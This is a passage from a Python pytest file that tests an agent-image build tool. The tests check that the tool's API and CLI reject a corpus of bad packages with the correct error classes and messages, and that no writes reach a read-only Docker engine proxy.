    proxy = ReadOnlyEngine()
    yield proxy
    proxy.close()


OUR_NAMES = {"bad-case", "agent-b"}  # the only valid agent name in the corpus: what a slipped-through build would tag


def engine_state(client) -> tuple[set[str], set[str]]:
    """Container ids and image tags, each from one list call (the high-level lists inspect every item:
    slow, and racy while other suites remove images)."""
    containers = {c["Id"] for c in client.api.containers(all=True)}
    tags = {t for image in client.api.images(all=True) for t in (image.get("RepoTags") or []) if t != "<none>:<none>"}
    return containers, tags


def assert_engine_untouched(client, before, after, proxy: ReadOnlyEngine) -> None:
    assert proxy.writes() == [], f"the case sent writes to the engine: {proxy.writes()}"
    new_containers, new_tags = after[0] - before[0], after[1] - before[1]
    ours = [t for t in new_tags if any(n in t for n in OUR_NAMES)]
    for cid in new_containers:
        try:
            attrs = client.containers.get(cid).attrs
        except Exception:  # another suite's container, already gone
            continue
        labels = (attrs.get("Config") or {}).get("Labels") or {}
        if labels.get("io.pixell.agent.name") in OUR_NAMES or any(
                n in str((attrs.get("Config") or {}).get("Image", "")) for n in OUR_NAMES):
            ours.append(cid)
    assert ours == [], f"new containers/tags from these packages: {ours}"


def cli_args(case: Case) -> list[str]:
    flags = {"allow_index_hosts": "--allow-index-host"}
    out = [a for k, v in case.limits.items() for a in (f"--{k.replace('_', '-')}", str(v))]
    for key, value in case.options.items():
        flag = flags.get(key, f"--{key.replace('_', '-')}")
        out += [a for v in (sorted(value) if isinstance(value, frozenset) else [value]) for a in (flag, str(v))]
    return out


def clean_env() -> dict[str, str]:
    # the public index by default and no CodeArtifact call: these cases never get that far anyway
    drop = {"PIP_INDEX_URL", "ENABLE_CODEARTIFACT", "AGENT_IMAGE_REGISTRY_PASSWORD"}
    return {k: v for k, v in os.environ.items() if k not in drop}


def engine_calls_ok(case: Case, proxy: ReadOnlyEngine) -> str | None:
    """What the case may ask the engine: nothing beyond the API version handshake."""
    if proxy.writes():
        return f"writes to the engine: {proxy.writes()}"
    reads = [path for _, path in proxy.calls if not path.endswith("/version")]
    if reads:  # the package's own checks, requirements.txt included, come before the engine is asked
        return f"engine asked {reads} before the package was refused"
    return None


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_package_is_refused(case: Case, tmp_path, docker_client, ro_engine):
    """The Python API: the exact class, the entry or field named, nothing written to the engine."""
    from builder.build.engine import Engine
    src = case.make(tmp_path)
    ro_engine.calls.clear()
    before = engine_state(docker_client)
    options = BuildOptions(limits=Limits(**case.limits), cache_dir=tmp_path / "cache", use_cache=False, env={},
                           **case.options)
    with pytest.raises(PackageLoadError) as caught:
        build_image(src, options, engine=Engine(ro_engine.url))
    err = caught.value
    assert type(err) is case.cls, f"{type(err).__name__}: {err}"
    assert case.needle in err.message, f"{case.needle!r} not named in: {err.message}"
    if case.field is not None:
        assert err.field == case.field, err.field
    if case.cls is IndexPolicyError:
        assert err.requirement and err.line, (err.requirement, err.line)
    assert engine_calls_ok(case, ro_engine) is None, engine_calls_ok(case, ro_engine)
    assert_engine_untouched(docker_client, before, engine_state(docker_client), ro_engine)


def run_cli(case: Case, src: Path) -> str | None:
    """The real CLI on one case, against its own read-only proxy; a description of what is wrong, or None."""
    proxy = ReadOnlyEngine()
    try:
        proc = subprocess.run([str(BIN / "agent-image"), "build", str(src), "--json", "--engine", proxy.url,
                               *cli_args(case)], capture_output=True, text=True, timeout=60, env=clean_env())
    finally:
        proxy.close()
    want = EXIT_CODES[case.cls.__name__]
    if proc.returncode != want:
        return f"exit {proc.returncode}, want {want}: {proc.stdout[-500:]} {proc.stderr[-1500:]}"
    lines = proc.stdout.strip().splitlines()
    if len(lines) != 1:
        return f"stdout is not one JSON line: {proc.stdout[:500]!r}"
    out = json.loads(lines[0])
    error = out.get("error") or {}
    if out.get("ok") is not False or error.get("class") != case.cls.__name__ or error.get("exit_code") != want:
        return f"wrong JSON: {out}"
    if case.needle not in error.get("message", ""):
        return f"{case.needle!r} not named in {error.get('message')!r}"
    return engine_calls_ok(case, proxy)


def test_cli_refuses_every_bad_package(tmp_path, docker_client):
    """`agent-image build SRC --json` on every case (four at a time: one process each is the cost)."""
    from concurrent.futures import ThreadPoolExecutor
    sources = []
    for n, case in enumerate(CASES):
        (tmp_path / str(n)).mkdir()
        sources.append(case.make(tmp_path / str(n)))
    before = engine_state(docker_client)
    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(run_cli, CASES, sources))
    problems = {case.id: why for case, why in zip(CASES, results) if why}
    assert problems == {}
    # every CLI talked to its own proxy, which saw no write; nothing named after these packages appeared
    proxy = ReadOnlyEngine()
    proxy.close()
    assert_engine_untouched(docker_client, before, engine_state(docker_client), proxy)


def test_corpus_covers_the_issue():
    assert len(CASES) >= 30
    ids = {c.id for c in CASES}
    for prefix in ("zip-", "folder-", "yaml-", "name-", "version-", "entrypoint-", "runtime-", "policy-"):
        assert any(i.startswith(prefix) for i in ids), prefix
